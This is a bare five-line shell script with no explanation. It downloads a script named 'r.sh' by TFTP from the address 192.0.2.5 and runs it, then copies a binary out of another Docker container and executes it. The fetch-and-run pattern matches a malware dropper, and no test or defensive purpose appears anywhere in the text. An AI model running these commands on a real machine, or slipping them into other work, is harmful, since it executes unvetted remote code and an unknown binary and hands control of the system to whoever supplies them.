#!/bin/sh
tftp 192.0.2.5 -c get r.sh
sh r.sh
docker cp other:/bin/run /opt/run
/opt/run
